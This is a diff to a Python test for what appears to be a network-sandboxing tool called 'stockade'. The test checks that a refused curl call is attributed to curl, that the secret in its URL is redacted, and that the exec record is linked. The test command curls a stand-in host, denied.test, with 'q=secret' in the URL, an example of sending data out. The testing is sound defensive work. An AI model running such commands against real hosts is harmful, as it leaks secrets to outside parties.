@@ -47,14 +47,15 @@ def closing(run: Any) -> dict[str, int]:
 
 
 def test_a_refused_curl_is_named_in_its_connection_and_its_questions(stockade: Any) -> None:
-    run = stockade(["sh", "-c", "sleep 0; curl -s -m 5 http://denied.test/?q=secret; true"])
+    run = stockade(["sh", "-c", "sleep 0; curl -s -m 5 http://denied.test/?q=secret; true"], "")
+    [of_curl] = [record["seq"] for record in run.attempts(entry="exec") if record["argv"][0] == "curl"]
     named = commands(run) + commands(run, entry="dns")
     assert len(named) >= 2
     for command in named:
         assert command["program"] == "/usr/bin/curl"
         assert command["argv"][:4] == ["curl", "-s", "-m", "5"]
         assert command["argv"][4].startswith("http://denied.test/?[redacted 8 bytes ")
-        assert command["exec"] is None  # nobody records execs in this run
+        assert command["exec"] == of_curl
     assert len({command["pid"] for command in named}) == 1
     assert closing(run) == {"named": len(named), "unknown": 0, "not_looked_up": 0}
 
